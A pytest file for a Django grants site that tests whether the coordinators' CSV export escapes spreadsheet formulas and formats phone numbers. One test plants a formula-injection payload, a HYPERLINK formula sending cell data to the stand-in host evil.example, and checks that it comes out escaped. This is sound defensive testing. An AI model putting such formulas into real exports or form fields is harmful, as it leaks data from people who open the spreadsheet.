"""The Applications export writes applicants' text as text, never as a spreadsheet formula."""

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client

from grants.models import Application

from .factories import Applicant


@pytest.mark.django_db
def test_csv_export_escapes_formulas(call):
    """An organisation named =HYPERLINK(...) reaches the coordinator's CSV as text."""
    person = Applicant(Client(), call)
    person.start()
    person.fill_all()
    person.submit()
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    Application.objects.update(organisation_name=hostile, settlement="+1+1")
    user = User.objects.create_user("coordinator", password="x" * 12)
    user.groups.add(Group.objects.get(name="Coordinators"))
    staff = Client()
    staff.force_login(user)
    response = staff.get("/admin/grant_applications/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


@pytest.mark.django_db
def test_export_shows_phones_as_the_site_does(call):
    """The phone stored as +77011234567 reads +7 701 123 45 67 in the coordinator's export."""
    person = Applicant(Client(), call)
    person.start()
    person.fill_all()
    person.submit()
    Application.objects.update(phone="+77011234567")
    user = User.objects.create_user("coordinator", password="x" * 12)
    user.groups.add(Group.objects.get(name="Coordinators"))
    staff = Client()
    staff.force_login(user)
    response = staff.get("/admin/grant_applications/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert "+7 701 123 45 67" in text and "+77011234567" not in text
